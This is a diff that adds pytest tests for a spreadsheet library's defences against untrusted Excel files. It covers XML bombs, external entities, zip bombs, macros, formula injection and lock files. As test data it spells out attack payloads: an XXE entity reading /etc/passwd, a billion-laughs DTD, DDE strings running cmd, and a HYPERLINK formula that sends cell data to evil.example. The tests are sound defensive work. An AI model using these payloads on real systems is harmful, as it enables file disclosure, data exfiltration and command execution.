@@ -1,0 +1,301 @@
+"""Untrusted files: size and zip limits, XML bombs and external entities, macros, formula injection,
+lock files, atomic writes with a backup."""
+
+from __future__ import annotations
+
+import io
+import os
+import re
+import zipfile
+from pathlib import Path
+
+import openpyxl
+import pytest
+from defusedxml import ElementTree
+from defusedxml import DefusedXmlException
+
+from xl_ecom import safeio
+
+MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+
+BILLION_LAUGHS = (
+    '<?xml version="1.0" encoding="UTF-8"?>\n'
+    '<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
+    + "".join(f' <!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">\n' for i in range(1, 10))
+    + "]>\n"
+    f'<worksheet xmlns="{MAIN_NS}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
+    "</sheetData></worksheet>"
+)
+
+EXTERNAL_ENTITY = (
+    '<?xml version="1.0" encoding="UTF-8"?>\n'
+    '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
+    f'<worksheet xmlns="{MAIN_NS}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row>'
+    "</sheetData></worksheet>"
+)
+
+
+def _plain_xlsx(path: Path, text: str = "x") -> Path:
+    wb = openpyxl.Workbook()
+    wb.active["A1"] = text
+    wb.active["B1"] = 5
+    wb.save(path)
+    return path
+
+
+def _replace_member(src: Path, dst: Path, member: str, data: bytes, extra: dict | None = None) -> Path:
+    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
+        for info in zin.infolist():
+            zout.writestr(info.filename, data if info.filename == member else zin.read(info.filename))
+        for name, content in (extra or {}).items():
+            zout.writestr(name, content)
+    return dst
+
+
+def _with_external_entity(src: Path, dst: Path) -> Path:
+    return _replace_member(src, dst, "xl/worksheets/sheet1.xml", EXTERNAL_ENTITY.encode())
+
+
+# --- XML bombs ----------------------------------------------------------------------------------
+
+
+def test_billion_laughs_is_refused_with_a_chinese_message(tmp_path):
+    bomb = _replace_member(_plain_xlsx(tmp_path / "a.xlsx"), tmp_path / "寿县.xlsx", "xl/worksheets/sheet1.xml", BILLION_LAUGHS.encode())
+    with pytest.raises(safeio.UntrustedFileError) as exc:
+        safeio.open_untrusted(bomb)
+    message = str(exc.value)
+    assert "寿县.xlsx" in message and "xl/worksheets/sheet1.xml" in message
+    assert "DTD" in message and "拒绝打开" in message
+
+
+def test_external_entity_is_refused(tmp_path):
+    bad = _with_external_entity(_plain_xlsx(tmp_path / "a.xlsx"), tmp_path / "凤台县.xlsx")
+    with pytest.raises(safeio.UntrustedFileError) as exc:
+        safeio.open_untrusted(bad)
+    assert "xl/worksheets/sheet1.xml" in str(exc.value) and "外部实体" in str(exc.value)
+
+
+def test_openpyxl_parses_through_defusedxml_as_second_line(tmp_path, monkeypatch):
+    """Without the prolog scan the bomb still never expands: openpyxl uses defusedxml, and the
+    refusal is still one Chinese sentence."""
+    bomb = _replace_member(_plain_xlsx(tmp_path / "a.xlsx"), tmp_path / "b.xlsx", "xl/worksheets/sheet1.xml", BILLION_LAUGHS.encode())
+    xxe = _with_external_entity(_plain_xlsx(tmp_path / "c.xlsx"), tmp_path / "d.xlsx")
+    for bad in (bomb, xxe):
+        with pytest.raises(ValueError) as exc:
+            openpyxl.load_workbook(bad)
+        assert isinstance(exc.value.__cause__, DefusedXmlException)
+    monkeypatch.setattr(safeio, "check_xml_prolog", lambda *a: None)
+    for bad in (bomb, xxe):
+        with pytest.raises(safeio.UntrustedFileError) as exc:
+            safeio.open_untrusted(bad)
+        assert "被禁止的 XML 结构" in str(exc.value) and bad.name in str(exc.value)
+
+
+# --- zip bombs, sizes, other containers ---------------------------------------------------------------
+
+
+def test_zip_bomb_by_compression_ratio_is_refused(tmp_path):
+    src = _plain_xlsx(tmp_path / "a.xlsx")
+    bomb = tmp_path / "bomb.xlsx"
+    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as zout:
+        for info in zin.infolist():
+            zout.writestr(info.filename, zin.read(info.filename))
+        with zout.open("xl/media/image1.bin", "w", force_zip64=True) as fh:
+            block = b"\0" * (1024 * 1024)
+            for _ in range(64):
+                fh.write(block)
+    assert bomb.stat().st_size < 1024 * 1024  # 64 MB inflated from well under 1 MB
+    with pytest.raises(safeio.UntrustedFileError) as exc:
+        safeio.open_untrusted(bomb)
+    assert "压缩比" in str(exc.value) and "压缩炸弹" in str(exc.value) and "xl/media/image1.bin" in str(exc.value)
+
+
+def test_too_many_members_is_refused(tmp_path):
+    src = _plain_xlsx(tmp_path / "a.xlsx")
+    many = {f"xl/media/m{i}.bin": b"" for i in range(safeio.MAX_MEMBERS)}
+    bad = _replace_member(src, tmp_path / "many.xlsx", "", b"", many)
+    with pytest.raises(safeio.UntrustedFileError) as exc:
+        safeio.open_untrusted(bad)
+    assert "部件" in str(exc.value) and str(safeio.MAX_MEMBERS) in str(exc.value)
+
+
+def test_total_uncompressed_size_is_limited(tmp_path, monkeypatch):
+    src = _plain_xlsx(tmp_path / "a.xlsx")
+    bad = _replace_member(src, tmp_path / "big.xlsx", "", b"", {"xl/media/a.bin": os.urandom(300_000)})
+    monkeypatch.setattr(safeio, "MAX_TOTAL_UNCOMPRESSED", 200_000)
+    with pytest.raises(safeio.UntrustedFileError) as exc:
+        safeio.open_untrusted(bad)
+    assert "解压后总大小超过" in str(exc.value)
+
+
+def test_oversized_file_is_refused_before_reading(tmp_path):
+    big = _plain_xlsx(tmp_path / "大通区.xlsx")
+    with open(big, "r+b") as fh:
+        fh.truncate(safeio.MAX_FILE_BYTES + 1)
+    with pytest.raises(safeio.UntrustedFileError) as exc:
+        safeio.open_untrusted(big)
+    assert "大通区.xlsx" in str(exc.value) and "超过上限50.0MB" in str(exc.value)
+
+
+def test_not_a_workbook_and_old_xls(tmp_path):
+    text = tmp_path / "a.xlsx"
+    text.write_text("hello")
+    with pytest.raises(safeio.UntrustedFileError, match="不是 Excel 工作簿"):
+        safeio.open_untrusted(text)
+    ole = tmp_path / "b.xlsx"
+    ole.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100)
+    with pytest.raises(safeio.UntrustedFileError, match="旧版 .xls"):
+        safeio.open_untrusted(ole)
+    broken = tmp_path / "c.xlsx"
+    broken.write_bytes(_plain_xlsx(tmp_path / "d.xlsx").read_bytes()[:300])
+    with pytest.raises(safeio.UntrustedFileError):
+        safeio.open_untrusted(broken)
+
+
+# --- macros and formulas -----------------------------------------------------------------------------
+
+
+def test_xlsm_macros_are_not_loaded_and_are_reported(tmp_path):
+    from xl_ecom import xlsm
+
+    buf = io.BytesIO()
+    wb = openpyxl.Workbook()
+    wb.active["A1"] = "数据"
+    wb.save(buf)
+    path = tmp_path / "county.xlsm"
+    path.write_bytes(xlsm.build_xlsm(buf.getvalue()))
+    with zipfile.ZipFile(path) as z:
+        assert "xl/vbaProject.bin" in z.namelist()
+    opened = safeio.open_untrusted(path)
+    assert opened.vba_archive is None  # the VBA project is not even read
+    assert opened.active["A1"].value == "数据"
+    report = opened.untrusted_report
+    assert report.macros_ignored
+    assert "xl/vbaProject.bin" in report.ignored_parts and "customUI/customUI14.xml" in report.ignored_parts
+    assert any("宏（VBA 工程）" in n and "未运行" in n for n in report.notes)
+
+
+def test_formulas_are_listed_and_values_are_cached_only(tmp_path):
+    wb = openpyxl.Workbook()
+    wb.active["A1"] = 3
+    wb.active["A2"] = "=A1*2"
+    path = tmp_path / "f.xlsx"
+    wb.save(path)
+    opened = safeio.open_untrusted(path)
+    assert opened.active["A2"].value is None  # no cached value: nothing computed from the file
+    assert opened.untrusted_report.formulas == {"Sheet": {"A2": "=A1*2"}}
+
+
+# --- formula injection --------------------------------------------------------------------------------
+
+INJECTIONS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+]
+
+
+def _parsed_cells(sheet_xml: bytes, shared_xml: str) -> dict[str, dict]:
+    """Each cell of a saved sheet as the XML has it: type, formula, text, style."""
+    ns = {"m": MAIN_NS}
+    shared = []
+    if shared_xml:
+        for si in ElementTree.fromstring(shared_xml).findall("m:si", ns):
+            shared.append("".join(t.text or "" for t in si.iter(f"{{{MAIN_NS}}}t")))
+    out = {}
+    for c in ElementTree.fromstring(sheet_xml).iter(f"{{{MAIN_NS}}}c"):
+        f = c.find("m:f", ns)
+        kind = c.get("t")
+        if kind == "inlineStr":
+            text = "".join(t.text or "" for t in c.iter(f"{{{MAIN_NS}}}t"))
+        elif kind == "s":
+            text = shared[int(c.find("m:v", ns).text)]
+        else:
+            text = None
+        out[c.get("r")] = {"type": kind, "formula": None if f is None else f.text, "text": text, "style": c.get("s", "0")}
+    return out
+
+
+def test_formula_injection_is_stored_as_text_in_the_saved_xml(tmp_path):
+    wb = openpyxl.Workbook()
+    ws = wb.active
+    for i, text in enumerate(INJECTIONS, start=1):
+        assert safeio.write_cell_value(ws.cell(row=i, column=1), text) == text
+    ws.cell(row=1, column=2).value = "=1+1"  # the control: openpyxl's own assignment makes a formula
+    path = tmp_path / "out.xlsx"
+    wb.save(path)
+    with zipfile.ZipFile(path) as z:
+        sheet = z.read("xl/worksheets/sheet1.xml")
+        styles = z.read("xl/styles.xml").decode("utf-8")
+        shared = z.read("xl/sharedStrings.xml").decode("utf-8") if "xl/sharedStrings.xml" in z.namelist() else ""
+    cells = _parsed_cells(sheet, shared)
+    assert cells["B1"]["formula"] == "1+1"  # the test can tell a formula from text
+    xfs = re.findall(r"<xf [^>]*?(?:/>|>.*?</xf>)", styles.split("<cellXfs")[1], re.S)
+    for i, text in enumerate(INJECTIONS, start=1):
+        cell = cells[f"A{i}"]
+        assert cell["formula"] is None, cell
+        assert cell["type"] in ("inlineStr", "s"), cell
+        assert cell["text"] == text.replace("\r", "\n")  # XML reads a bare CR as LF
+        assert 'quotePrefix="1"' in xfs[int(cell["style"])]
+    back = openpyxl.load_workbook(path)
+    assert [back.active.cell(row=i, column=1).data_type for i in range(1, len(INJECTIONS) + 1)] == ["s"] * len(INJECTIONS)
+    assert back.active["A1"].value == INJECTIONS[0]
+
+
+def test_plain_text_and_numbers_are_unchanged():
+    wb = openpyxl.Workbook()
+    ws = wb.active
+    safeio.write_cell_value(ws["A1"], "寿县电商产业园")
+    safeio.write_cell_value(ws["A2"], 1234.5)
+    safeio.write_cell_value(ws["A3"], None)
+    safeio.write_cell_value(ws["A4"], "a\x01b")
+    assert ws["A1"].value == "寿县电商产业园" and not ws["A1"].quotePrefix
+    assert ws["A2"].value == 1234.5 and ws["A2"].data_type == "n"
+    assert ws["A3"].value is None
+    assert ws["A4"].value == "ab"
+
+
+def test_safe_text():
+    assert safeio.safe_text("=1+1") == "'=1+1"
+    assert safeio.safe_text("@SUM(A1)") == "'@SUM(A1)"
+    assert safeio.safe_text("  -1") == "'  -1"
+    assert safeio.safe_text("正常文本") == "正常文本"
+    assert safeio.safe_text(-5) == -5
+    assert safeio.safe_text(None) is None
+
+
+# --- lock files, atomic write, backup ---------------------------------------------------------------
+
+
+def test_lock_file_refuses(tmp_path):
+    target = tmp_path / "目标任务分解表.xlsm"
+    target.write_bytes(b"old")
+    (tmp_path / "~$目标任务分解表.xlsm").write_bytes(b"owner")
+    with pytest.raises(safeio.FileBusyError) as exc:
+        safeio.write_atomically(target, b"new")
+    assert "正在被 Excel 或 WPS 打开" in str(exc.value) and "~$目标任务分解表.xlsm" in str(exc.value)
+    assert target.read_bytes() == b"old"
+    assert [p.name for p in tmp_path.iterdir() if "备份" in p.name] == []
+
+
+def test_lock_file_with_shortened_name(tmp_path):
+    target = tmp_path / "目标任务分解表.xlsm"
+    (tmp_path / "~$任务分解表.xlsm").write_bytes(b"owner")
+    with pytest.raises(safeio.FileBusyError):
+        safeio.ensure_not_open(target)
+
+
+def test_atomic_write_keeps_a_backup(tmp_path):
+    target = tmp_path / "book.xlsm"
+    target.write_bytes(b"version 1")
+    backup = safeio.write_atomically(target, b"version 2")
+    assert target.read_bytes() == b"version 2"
+    assert backup is not None and backup.read_bytes() == b"version 1" and backup.parent == tmp_path
+    assert backup.name.startswith("book.备份") and backup.suffix == ".xlsm"
+    second = safeio.write_atomically(target, b"version 3")
+    assert second != backup and second.read_bytes() == b"version 2" and backup.read_bytes() == b"version 1"
+    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]
